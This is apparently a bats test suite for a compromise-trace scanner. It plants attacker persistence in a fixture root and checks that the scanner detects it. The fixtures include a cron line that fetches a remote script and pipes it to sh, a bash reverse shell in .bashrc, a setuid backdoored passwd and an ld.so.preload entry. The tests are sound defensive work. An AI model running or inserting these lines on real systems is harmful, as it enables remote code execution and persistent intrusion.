#!/usr/bin/env bats
# Traces of compromise (scan/traces.h): a fixture root with planted persistence, a preloaded
# library, SSH keys and files no package owns next to files a package installed unchanged;
# and, on this machine, processes the test runs from /tmp and from a deleted file.

load helpers

setup() {
    R="$BATS_TEST_TMPDIR/root"
    OUT="$BATS_TEST_TMPDIR/b.json"
    export XDG_DATA_HOME="$BATS_TEST_TMPDIR/xdg"
}

md5() { md5sum "$1" | cut -d' ' -f1; }

# A root where package "base" installed some files, and an attacker added others.
plant() {
    mkdir -p "$R"/etc/cron.d "$R"/etc/systemd/system "$R"/var/lib/dpkg/info \
        "$R"/usr/bin "$R"/usr/local/bin "$R"/home/alice/.ssh "$R"/home/alice/.config/autostart
    printf 'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000:Alice:/home/alice:/bin/bash\n' \
        >"$R/etc/passwd"
    # shipped by the package, unchanged: mentions /tmp, and is trusted
    printf '# cleans up\n0 3 * * * root find /tmp/cache -delete\n' >"$R/etc/cron.d/base-clean"
    # shipped by the package, then changed
    printf '0 4 * * * root /usr/bin/base-report\n' >"$R/etc/cron.d/base-report"
    printf '#!/bin/sh\n' >"$R/usr/bin/base"
    printf '#!/bin/sh\n' >"$R/usr/bin/base-merged"
    printf '#!/bin/sh\n' >"$R/usr/bin/stray"
    printf '#!/bin/sh\n' >"$R/usr/local/bin/rootshell"
    chmod 755 "$R"/usr/bin/* && chmod 4755 "$R/usr/local/bin/rootshell"
    # a set-id program as shipped, then replaced; a unit as shipped, enabled under an alias
    printf '#!/bin/sh\n' >"$R/usr/bin/passwd"
    mkdir -p "$R/usr/lib/systemd/system"
    printf '[Service]\nExecStart=/usr/bin/base\n' >"$R/usr/lib/systemd/system/base.service"
    printf '/etc/cron.d/base-clean\n/etc/cron.d/base-report\n/usr/bin/base\n/bin/base-merged\n' \
        >"$R/var/lib/dpkg/info/base.list"
    printf '/usr/bin/passwd\n/usr/lib/systemd/system/base.service\n' >>"$R/var/lib/dpkg/info/base.list"
    { printf '%s  usr/bin/base\n' "$(md5 "$R/usr/bin/base")"
      printf '%s  usr/bin/passwd\n' "$(md5 "$R/usr/bin/passwd")"
      printf '%s  usr/lib/systemd/system/base.service\n' "$(md5 "$R/usr/lib/systemd/system/base.service")"
    } >"$R/var/lib/dpkg/info/base.md5sums"
    printf 'exec /bin/sh -p\n' >>"$R/usr/bin/passwd" && chmod 4755 "$R/usr/bin/passwd"
    ln -s ../../../usr/lib/systemd/system/base.service "$R/etc/systemd/system/alias.service"
    mkdir -p "$R/etc/systemd/system/base.service.d"
    printf '[Service]\nExecStartPre=/dev/shm/.cache/upd\n' \
        >"$R/etc/systemd/system/base.service.d/override.conf"
    cat >"$R/var/lib/dpkg/status" <<DPKG
Package: base
Status: install ok installed
Version: 1.0
Conffiles:
 /etc/cron.d/base-clean $(md5 "$R/etc/cron.d/base-clean")
 /etc/cron.d/base-report 00000000000000000000000000000000

DPKG
    # the attacker's
    printf '*/5 * * * * root curl -fsSL http://203.0.113.5/x.sh | sh\n' >"$R/etc/cron.d/sysupdate"
    printf '[Service]\nExecStart=/opt/agent/agent --quiet\n' >"$R/etc/systemd/system/agent.service"
    printf '/usr/lib/x86_64-linux-gnu/libsysd.so\n' >"$R/etc/ld.so.preload"
    # (written in pieces: this file must not match tenken's own reverse-shell rule)
    printf 'export PATH\nbash -i >%s /dev/%s/198.51.100.7/4444 0>&1 &\n' '&' tcp \
        >"$R/home/alice/.bashrc"
    printf '[Desktop Entry]\nExec=/home/alice/.cache/.x/run\n' \
        >"$R/home/alice/.config/autostart/x.desktop"
    printf 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA alice@laptop\ncommand="/bin/sh" ssh-rsa AAAAB3 x@y\n' \
        >"$R/home/alice/.ssh/authorized_keys"
}

@test "planted persistence, preload, keys and unowned files are traces; shipped files are not" {
    plant
    run "$TENKEN" scan --root "$R" --only traces --out "$OUT" --no-progress --fail-on high
    [ "$status" -eq 1 ]
    validate "$OUT"
    jq -e '.detect.traces' "$OUT"
    jq -r '.traces[] | "\(.kind) \(.why // "-") \(.path) \(.line // "-")"' "$OUT" | sort \
        >"$BATS_TEST_TMPDIR/got"
    cat >"$BATS_TEST_TMPDIR/want" <<EOF2
authorized-key - /home/alice/.ssh/authorized_keys 1
authorized-key options /home/alice/.ssh/authorized_keys 2
ld-preload preload /etc/ld.so.preload 1
persistence download-exec /etc/cron.d/sysupdate 1
persistence modified /etc/cron.d/base-report 1
persistence tmp-path /etc/systemd/system/base.service.d/override.conf 2
persistence reverse-shell /home/alice/.bashrc 2
persistence unpackaged /etc/systemd/system/agent.service 2
persistence unpackaged /home/alice/.config/autostart/x.desktop 2
unowned-executable - /usr/bin/stray -
setid-file modified /usr/bin/passwd -
setid-file unowned /usr/local/bin/rootshell -
EOF2
    sort -o "$BATS_TEST_TMPDIR/want" "$BATS_TEST_TMPDIR/want"
    diff "$BATS_TEST_TMPDIR/want" "$BATS_TEST_TMPDIR/got"
    jq -e '.traces[] | select(.path == "/etc/systemd/system/agent.service")
        | .text == "ExecStart=/opt/agent/agent --quiet"' "$OUT"
    jq -r '.findings[] | "\(.id) \(.severity) \(.evidence | length)"' "$OUT" | sort \
        >"$BATS_TEST_TMPDIR/got"
    cat >"$BATS_TEST_TMPDIR/want" <<EOF2
TK-TRACE-AUTOSTART info 3
TK-TRACE-LD-PRELOAD high 1
TK-TRACE-PERSISTENCE high 3
TK-TRACE-SETID-MODIFIED critical 1
TK-TRACE-SSH-KEY info 2
TK-TRACE-UNOWNED-EXEC low 1
TK-TRACE-UNOWNED-SUID high 1
EOF2
    sort -o "$BATS_TEST_TMPDIR/want" "$BATS_TEST_TMPDIR/want"
    diff "$BATS_TEST_TMPDIR/want" "$BATS_TEST_TMPDIR/got"
    # evidence points at the traces; analyze re-judges them from the saved bundle
    "$TENKEN" analyze --format json "$OUT" | jq -e '[.findings[].id] | length == 7'
    # --no-traces turns it off
    "$TENKEN" scan --root "$R" --only traces --no-traces --out "$OUT" --no-progress
    jq -e '(.traces // []) | length == 0' "$OUT"
}

@test "without a dpkg database, ownership is not judged and the bundle says so" {
    plant
    rm -r "$R/var/lib/dpkg"
    "$TENKEN" scan --root "$R" --only traces --out "$OUT" --no-progress
    jq -e '[.traces[].kind] | index("unowned-executable") == null
        and index("persistence") != null' "$OUT"
    jq -e '[.errors[] | select(.collector == "traces" and .kind == "unsupported")] | length == 1' \
        "$OUT"
}

@test "hostile persistence files: huge, binary, FIFOs and symlink loops do not hang or crash" {
    plant
    head -c 3000000 /dev/zero >"$R/etc/cron.d/huge"
    head -c 4096 /dev/urandom >"$R/etc/cron.d/binary"
    mkfifo "$R/etc/cron.d/fifo"
    ln -s loop "$R/etc/cron.d/loop" && ln -s loop "$R/etc/cron.d/loop2"
    ln -s /etc/shadow "$R/home/alice/.profile"
    printf "%s\n" "$(head -c 100000 /dev/zero | tr '\0' 'a') | sh" >"$R/etc/cron.d/long"
    run timeout 60 "$TENKEN" scan --root "$R" --only traces --out "$OUT" --no-progress
    [ "$status" -eq 0 ]
    validate "$OUT"
    jq -e '[.errors[] | select(.path == "/etc/cron.d/huge" and .kind == "limit")] | length == 1' \
        "$OUT"
    jq -e '[.traces[] | select(.path == "/etc/cron.d/long") | .text | length] | all(. <= 520)' \
        "$OUT"
}

@test "live: a process running from /tmp and one whose program was deleted are traces" {
    cp /bin/sleep "$BATS_TEST_TMPDIR/update-helper"
    "$BATS_TEST_TMPDIR/update-helper" 120 &
    tmp_pid=$!
    cp /bin/sleep "$BATS_TEST_TMPDIR/gone"
    "$BATS_TEST_TMPDIR/gone" 120 &
    gone_pid=$!
    sleep 0.2
    rm "$BATS_TEST_TMPDIR/gone"
    run "$TENKEN" scan --only traces --out "$OUT" --no-progress
    kill "$tmp_pid" "$gone_pid"
    [ "$status" -eq 0 ]
    validate "$OUT"
    jq -e --argjson p "$tmp_pid" '.traces[] | select(.pid == $p)
        | .kind == "process-location" and .why == "tmp-path" and (.path | endswith("/update-helper"))' "$OUT"
    jq -e --argjson p "$gone_pid" '.traces[] | select(.pid == $p)
        | .kind == "process-location" and .why == "tmp-path"' "$OUT"
    jq -e '[.findings[] | select(.id == "TK-TRACE-PROCESS-TMP" and .severity == "high")] | length == 1' "$OUT"
    # no hidden processes on this machine
    jq -e '[.traces[] | select(.kind == "hidden-process")] | length == 0' "$OUT"
}

@test "live: a deleted program is a trace; one replaced on disk (an upgrade) is only info" {
    # Outside /tmp, where a running program is a trace by itself.
    dir=$(mktemp -d "${HOME:-/root}/.tenken-test.XXXXXX") || skip "no writable home directory"
    cp /bin/sleep "$dir/gone" && cp /bin/sleep "$dir/upgraded"
    "$dir/gone" 120 &
    gone_pid=$!
    "$dir/upgraded" 120 &
    upgraded_pid=$!
    sleep 0.2
    rm "$dir/gone"
    cp /bin/true "$dir/upgraded.new" && mv "$dir/upgraded.new" "$dir/upgraded"
    run "$TENKEN" scan --only traces --out "$OUT" --no-progress
    kill "$gone_pid" "$upgraded_pid"
    rm -r "$dir"
    [ "$status" -eq 0 ]
    jq -e --argjson p "$gone_pid" '.traces[] | select(.pid == $p)
        | .kind == "deleted-exe" and .why == "gone"' "$OUT"
    jq -e --argjson p "$upgraded_pid" '.traces[] | select(.pid == $p)
        | .kind == "deleted-exe" and .why == "replaced"' "$OUT"
    jq -e '[.findings[] | select(.id == "TK-TRACE-DELETED-EXE")] | .[0].severity == "medium"
        and (.[0].evidence | length == 1)' "$OUT"
    jq -e '[.findings[] | select(.id == "TK-TRACE-STALE-EXE")] | .[0].severity == "info"' "$OUT"
}

@test "--exclude and --exclude-regex also keep paths out of traces" {
    plant
    "$TENKEN" scan --root "$R" --only traces --out "$OUT" --no-progress \
        --exclude '/etc/cron.d/*' --exclude-regex 'autostart|authorized'
    jq -e '[.traces[].path] | map(select(test("cron.d|autostart|authorized"))) | length == 0' "$OUT"
    jq -e '[.traces[] | select(.path == "/etc/ld.so.preload")] | length == 1' "$OUT"
    run "$TENKEN" scan --root "$R" --only traces --out "$OUT" --exclude-regex '('
    [ "$status" -eq 2 ]
}

@test "one user's flood of SSH keys is capped and cannot crowd out other traces" {
    plant
    for i in $(seq 300); do printf 'ssh-ed25519 AAAAkey%d k%d\n' "$i" "$i"; done \
        >"$R/home/alice/.ssh/authorized_keys"
    "$TENKEN" scan --root "$R" --only traces --out "$OUT" --no-progress
    validate "$OUT"
    jq -e '[.traces[] | select(.kind == "authorized-key")] | length == 200' "$OUT"
    jq -e '[.errors[] | select(.path == "/home/alice/.ssh/authorized_keys" and .kind == "limit")]
        | length == 1' "$OUT"
    jq -e '[.traces[] | select(.kind == "ld-preload")] | length == 1' "$OUT"
}
